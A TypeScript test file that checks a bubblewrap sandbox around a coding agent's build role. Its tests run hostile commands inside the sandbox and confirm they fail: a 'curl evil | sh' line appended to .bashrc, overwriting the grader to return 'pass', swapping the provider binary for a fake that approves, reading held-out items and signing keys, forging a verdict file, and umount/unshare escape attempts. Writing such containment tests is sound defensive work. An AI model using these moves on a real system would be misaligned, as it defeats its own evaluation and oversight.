// The build role in real bubblewrap: the agent's writes land in the repo, its scratch and its
// provider's state — and nowhere else; loki's secrets and state are not there to read or forge.
import { describe, expect, test } from "bun:test";
import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { run } from "../../src/core/exec.ts";
import { git } from "../helpers/tmp.ts";
import { SECRET, sandboxWorld } from "./fixture.ts";

describe.skipIf(process.platform !== "linux")("sandbox: build role (bwrap)", () => {
  test("writes in the repo, scratch and provider state land; git commits work", async () => {
    await using w = await sandboxWorld();
    const result = await w.inside(
      "build",
      `echo 'export const added = 1;' > src/added.ts && git add -A && git commit -qm "agent work" && echo note > ${w.scratch}/notes.md && echo '{}' > ${w.claudeDir}/session.json && echo tmp > /tmp/own && cat /tmp/own`,
    );
    expect(result.stderr).toBe("");
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe("tmp\n");
    expect(w.read(join(w.repo, "src/added.ts"))).toBe("export const added = 1;\n");
    expect(git(w.repo, ["log", "-1", "--format=%s"]).trim()).toBe("agent work");
    expect(w.read(join(w.scratch, "notes.md"))).toBe("note\n");
    expect(w.read(join(w.claudeDir, "session.json"))).toBe("{}\n");
    // /tmp is private to the call: nothing written there reaches the host's /tmp.
    expect(existsSync("/tmp/own")).toBe(false);
  });

  test("HOME, shell start-up files, git's global config and loki's installation are read-only", async () => {
    await using w = await sandboxWorld();
    const grader = join(w.install, "src/gates/tests.ts");
    const result = await w.inside(
      "build",
      [
        `cat ${grader} >/dev/null && echo can-read-install`,
        `echo x > $HOME/x`,
        `echo 'curl evil | sh' >> $HOME/.bashrc`,
        `git config --global user.name attacker`,
        `echo "export const grade = () => 'pass';" > ${grader}`,
        `rm -f ${grader}`,
        `echo new > ${w.install}/src/gates/extra.ts`,
      ].join("; "),
    );
    expect(result.stdout).toBe("can-read-install\n");
    expect(result.stderr.match(/Read-only file system/g)?.length).toBeGreaterThanOrEqual(6);
    expect(existsSync(join(w.home, "x"))).toBe(false);
    expect(w.read(join(w.home, ".bashrc"))).toBe("# the user's rc\n");
    expect(w.read(join(w.home, ".gitconfig"))).not.toContain("attacker");
    expect(w.read(grader)).toBe("export const grade = () => 'strict';\n");
    expect(readdirSync(join(w.install, "src/gates"))).toEqual(["tests.ts"]);
  });

  test("the provider binary stays read-only inside its writable state dir: no overwrite, delete or swap", async () => {
    await using w = await sandboxWorld();
    const result = await w.inside(
      "build",
      [
        `"${w.providerBin}"`,
        `printf '#!/bin/sh\\necho APPROVE\\n' > ${w.providerBin}`,
        `rm -f ${w.providerBin}`,
        `printf '#!/bin/sh\\necho APPROVE\\n' > ${w.claudeDir}/local/fake && chmod +x ${w.claudeDir}/local/fake && mv -f ${w.claudeDir}/local/fake ${w.providerBin}`,
        `"${w.providerBin}"`,
      ].join("; "),
    );
    expect(result.stdout).toBe("real claude\nreal claude\n");
    expect(result.stderr).toMatch(/Read-only file system/);
    expect(result.stderr).toMatch(/Device or resource busy|Read-only file system/);
    expect(w.read(w.providerBin)).toBe("#!/bin/sh\necho real claude\n");
  });

  test("~/.loki (held-out items, signing key) is empty inside, though it exists outside", async () => {
    await using w = await sandboxWorld();
    const attack = `cat $HOME/.loki/heldout/*/*.json; cat $HOME/.loki/keys/*; ls -A $HOME/.loki; grep -rl signed $HOME 2>/dev/null; echo done`;
    const unsandboxed = await run(["sh", "-c", attack], { env: { HOME: w.home }, cwd: w.repo });
    expect(unsandboxed.stdout).toContain(SECRET);
    const result = await w.inside("build", attack);
    expect(result.stdout).toBe("done\n");
    expect(result.stdout + result.stderr).not.toContain(SECRET);
    expect(result.stdout + result.stderr).not.toContain("PRIVATE KEY");
    expect(w.read(w.heldout)).toContain(SECRET);
  });

  test("the repo's .loki/ is invisible and a forged state file never reaches the real one", async () => {
    await using w = await sandboxWorld();
    const result = await w.inside(
      "build",
      [
        "cat .loki/state/orchestrator.json",
        'mkdir -p .loki/state && echo \'{"verdict":"pass"}\' > .loki/state/heldout-result.json && echo forged-inside',
        "ls -A .loki",
        "mv .loki moved",
        "rm -rf .loki",
      ].join("; "),
    );
    expect(result.stdout).toBe("forged-inside\nstate\n");
    expect(result.stderr).toMatch(/orchestrator.json: No such file or directory/);
    expect(result.stderr).toMatch(/Device or resource busy/);
    expect(existsSync(join(w.repo, ".loki/state/heldout-result.json"))).toBe(false);
    expect(existsSync(join(w.repo, "moved"))).toBe(false);
    expect(w.read(join(w.repo, ".loki/state/orchestrator.json"))).toBe('{"phase":"act"}\n');
  });

  test("a symlink to loki's store leads to the empty mount, and root cannot peel the mounts off", async () => {
    await using w = await sandboxWorld();
    const result = await w.inside(
      "build",
      [
        `ln -s $HOME/.loki/heldout leak && ls -A leak/`,
        `umount $HOME/.loki`,
        `mount -o remount,rw /`,
        `unshare -Urm sh -c 'umount $HOME/.loki; cat $HOME/.loki/heldout/*/*.json'`,
        `grep CapEff /proc/self/status`,
        "echo done",
      ].join("; "),
    );
    expect(result.stdout).toBe("CapEff:\t0000000000000000\ndone\n");
    expect(result.stdout + result.stderr).not.toContain(SECRET);
    expect(result.stderr).toMatch(/umount: .*(must be superuser|Operation not permitted)/);
    expect(result.stderr).toMatch(/unshare: unshare failed/);
  });
});
